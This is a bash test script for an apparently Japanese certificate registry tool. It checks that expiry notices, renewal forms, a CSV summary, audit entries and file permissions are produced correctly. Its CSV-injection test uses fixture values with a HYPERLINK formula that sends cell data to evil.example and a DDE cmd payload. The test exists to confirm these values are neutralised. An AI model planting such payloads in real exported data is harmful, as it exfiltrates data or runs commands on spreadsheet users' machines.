#!/usr/bin/env bash
# test_rule_R12_expiry_notices.sh: R12 — for renewal the inquiry/response
# form is printed on the back of the expiry notice (有効期限のお知らせ).
# `jpki counter notices --within 3m --out DIR` makes, for every valid
# certificate expiring in the window, a notice addressed to its holder
# with a renewal form on page 2, one per holder, plus a CSV summary; an
# expired, revoked or later-expiring certificate gets none; a second run
# makes no duplicate forms; every notice lands with its audit entry.
# Bad windows are refused and change nothing.
set -euo pipefail
. "$(dirname "$0")/lib.sh"

command -v sqlite3 >/dev/null 2>&1 || fail "the sqlite3 command-line tool is needed"

forms_count() {
	db_sql "SELECT COUNT(*) FROM inquiry_forms"
}
csv_rows() {        # data rows of a CSV with status $2 (or all)
	tail -n +2 "$1" | grep -c "${2:-}" || true
}

# Today is 2026-04-01.  Certificates run to the 5th birthday after issue.
init_data
SPRING=$(add_resident "$(individual_number 10000000001)" "春野 花子" \
	"埼玉県草加市高砂1-1-1" 1980-05-05 female)          # expire 2030-05-05
APRIL=$(add_resident "$(individual_number 10000000002)" "卯月 太郎" \
	"埼玉県草加市住吉2-2-2" 1985-04-10 male)            # expire 2030-04-10
SUMMER=$(add_resident "$(individual_number 10000000003)" "夏木 次郎" \
	"埼玉県草加市氷川町3-3" 1990-08-20 male)            # expire 2030-08-20
GONE=$(add_resident "$(individual_number 10000000004)" "秋山 三郎" \
	"埼玉県草加市松原4-4" 1982-04-20 male)              # expire 2030-04-20
S_SIGN=$(issue "$SPRING" sign "$TMP/s-sign.pem")
S_AUTH=$(issue "$SPRING" auth "$TMP/s-auth.pem")
A_AUTH=$(issue "$APRIL" auth "$TMP/a-auth.pem")
SU_SIGN=$(issue "$SUMMER" sign "$TMP/su-sign.pem")
SU_AUTH=$(issue "$SUMMER" auth "$TMP/su-auth.pem")
G_SIGN=$(issue "$GONE" sign "$TMP/g-sign.pem")
# A name and an address with the CSV's own separators in them.
QUOTED_ADDRESS='埼玉県草加市谷塚5-5, "北"棟'
QUOTED=$(add_resident "$(individual_number 10000000005)" '谷塚 "五郎"' \
	"$QUOTED_ADDRESS" 1990-08-25 male)                    # expire 2030-08-25
Q_AUTH=$(issue "$QUOTED" auth "$TMP/q-auth.pem")
ok resident change "$GONE" --deceased --clerk registrar     # revokes both

export JPKI_NOW=2030-03-01T09:00:00+09:00
NOTICES=$TMP/notices

check "R12: bad windows are refused with one line and change nothing"
db_snapshot "$TMP/before.sql"
for w in 0m 3 3y -1m 25m 3mm ""; do
	expect_status 2 counter notices --within "$w" --out "$NOTICES" --clerk tanaka
	expect_one_error_line "within"
done
expect_status 2 counter notices --within 3m --out "$NOTICES"
expect_one_error_line "clerk"
expect_store_unchanged "$TMP/before.sql" "refused notices"
[ ! -e "$NOTICES/notices.csv" ] || fail "a refused run wrote a CSV"

check "R12: on 2030-03-01 a 3-month window holds the certificates expiring by 2030-06-01: one notice per holder"
ok counter notices --within 3m --out "$NOTICES" --clerk tanaka --json
json_expect "first run" certificates=3 notices=2 already=0 csv="$NOTICES/notices.csv"
expect_eq "forms made" "$(forms_count)" 2
[ "$(find "$NOTICES" -name 'notice-*.pdf' | wc -l)" -eq 2 ] || fail "expected 2 notice PDFs: $(ls "$NOTICES")"
[ -z "$(ls "$NOTICES"/*.tmp 2>/dev/null)" ] || fail "temporary files left behind"

check "R12: the CSV lists each certificate with its holder, expiry, renewal date and form"
CSV=$NOTICES/notices.csv
head -n 1 "$CSV" | grep -q '^form,resident,holder,address,type,serial,not_after,renewal_opens,status,file' ||
	fail "CSV header: $(head -n 1 "$CSV")"
expect_eq "CSV rows" "$(csv_rows "$CSV")" 3
expect_eq "new rows" "$(csv_rows "$CSV" ',new,')" 3
grep -q ",$S_SIGN,2030-05-05T23:59:59+09:00,2030-02-05,new," "$CSV" ||
	fail "no row for $S_SIGN with its expiry and renewal date: $(cat "$CSV")"
grep -q ",$A_AUTH,2030-04-10T23:59:59+09:00,2030-01-10,new," "$CSV" ||
	fail "no row for $A_AUTH"
grep -q "春野 花子,埼玉県草加市高砂1-1-1" "$CSV" || fail "holder and address missing"
for s in "$SU_SIGN" "$SU_AUTH" "$G_SIGN"; do
	! grep -q "$s" "$CSV" || fail "$s is outside the window or revoked but is in the CSV"
done
# The holder's two certificates share one form, the one on her notice.
S_FORM=$(grep ",$S_SIGN," "$CSV" | cut -d, -f1)
expect_eq "one form for both of her certificates" "$(grep ",$S_AUTH," "$CSV" | cut -d, -f1)" "$S_FORM"
[ -s "$NOTICES/notice-$S_FORM.pdf" ] || fail "no notice-$S_FORM.pdf"

check "R12: the form on the notice is a renewal form for the holder, valid until the certificate expires"
ok counter form-show "$S_FORM" --json
json_expect "form $S_FORM" resident="$SPRING" purpose=renew origin=notice \
	status=unused issued_on=2030-03-01 expiry=2030-05-05 'types=["sign","auth"]'

check "R12: each notice is audited; the chain verifies"
ok audit list --json
expect_eq "notice audit entries" "$(grep -c '"notice.expiry"' "$TMP/stdout")" 2
expect_audit_ok "after notices"

check "R12: running it again makes no duplicate forms and no new notices"
ok counter notices --within 3m --out "$NOTICES" --clerk tanaka --json
json_expect "second run" certificates=3 notices=0 already=3
expect_eq "forms after the second run" "$(forms_count)" 2
expect_eq "already rows" "$(csv_rows "$CSV" ',already,')" 3
grep -q "^$S_FORM,.*,$S_SIGN," "$CSV" || fail "the second CSV lost the form number"

check "R12: a wider window later on picks up only the new certificates"
export JPKI_NOW=2030-06-15T09:00:00+09:00
ok counter notices --within 3m --out "$NOTICES" --clerk suzuki --json
# Spring's and April's certificates have expired and are not noticed.
json_expect "June run" certificates=3 notices=2 already=0
expect_eq "forms" "$(forms_count)" 4
grep -q ",$SU_SIGN,2030-08-20T23:59:59+09:00,2030-05-20,new," "$CSV" || fail "no row for $SU_SIGN"

check "R12: the CSV quotes names and addresses with commas and quotes (RFC 4180)"
got=$("$PYTHON" -c '
import csv, sys
for row in csv.DictReader(open(sys.argv[1], encoding="utf-8", newline="")):
    if row["serial"] == sys.argv[2]:
        print(row["holder"] + "|" + row["address"] + "|" + row["status"])
' "$CSV" "$Q_AUTH")
expect_eq "quoted row" "$got" "谷塚 \"五郎\"|$QUOTED_ADDRESS|new"

check "R12: a window in days works the same way"
ok counter notices --within 90d --out "$NOTICES" --clerk suzuki --json
json_expect "90-day run" certificates=3 notices=0 already=3

check "R12: the notices and the CSV (check codes, names, addresses) are readable by their owner only"
for f in "$CSV" "$NOTICES"/notice-*.pdf; do
	expect_eq "mode of $(basename "$f")" "$(stat -c %a "$f")" 600
done

check "R12: register values a spreadsheet would evaluate are written as text (OWASP CSV injection); the rest unchanged"
export JPKI_NOW=2026-04-01T10:00:00+09:00
EVIL_NAME='=HYPERLINK("http://evil.example/?"&A1,"x") 太郎'
EVIL_ADDRESS="@SUM(1+1)*cmd|' /C calc'!A0"
EVIL=$(add_resident "$(individual_number 10000000006)" "$EVIL_NAME" \
	"$EVIL_ADDRESS" 1990-09-10 male)                       # expire 2030-09-10
E_AUTH=$(issue "$EVIL" auth "$TMP/e-auth.pem")
MINUS=$(add_resident "$(individual_number 10000000007)" '-2+3 花子' \
	'+81 埼玉県草加市' 1990-09-11 female)
M_AUTH=$(issue "$MINUS" auth "$TMP/m-auth.pem")
export JPKI_NOW=2030-08-01T09:00:00+09:00
ok counter notices --within 3m --out "$TMP/evil" --clerk suzuki --json
csv_cells() {       # holder|address|status of the row of serial $1
	"$PYTHON" -c '
import csv, sys
for row in csv.DictReader(open(sys.argv[1], encoding="utf-8", newline="")):
    if row["serial"] == sys.argv[2]:
        print(row["holder"] + "|" + row["address"] + "|" + row["status"])
' "$TMP/evil/notices.csv" "$1"
}
expect_eq "formula name and address" "$(csv_cells "$E_AUTH")" "'$EVIL_NAME|'$EVIL_ADDRESS|new"
expect_eq "leading minus and plus" "$(csv_cells "$M_AUTH")" "'-2+3 花子|'+81 埼玉県草加市|new"
expect_eq "ordinary row" "$(csv_cells "$Q_AUTH")" "谷塚 \"五郎\"|$QUOTED_ADDRESS|already"
! grep -q '^=\|,=\|,@\|,+\|,-' "$TMP/evil/notices.csv" ||
	fail "a cell begins with a formula character: $(cat "$TMP/evil/notices.csv")"
grep -q "\"'=HYPERLINK(\"\"http" "$TMP/evil/notices.csv" ||
	fail "the formula cell is not quoted text: $(cat "$TMP/evil/notices.csv")"

check "R12: document_mode = 0640 in the config gives the group read access; a mode for others is refused"
sed -i 's/^document_mode = .*/document_mode = 0640/' "$DATA/config"
ok counter notices --within 3m --out "$TMP/evil" --clerk suzuki --json
expect_eq "CSV mode" "$(stat -c %a "$TMP/evil/notices.csv")" 640
sed -i 's/^document_mode = .*/document_mode = 0644/' "$DATA/config"
expect_status 2 counter notices --within 3m --out "$TMP/evil" --clerk suzuki
expect_one_error_line 'document_mode'
sed -i 's/^document_mode = .*/document_mode = 0600/' "$DATA/config"
expect_audit_ok "at the end"
done_ok
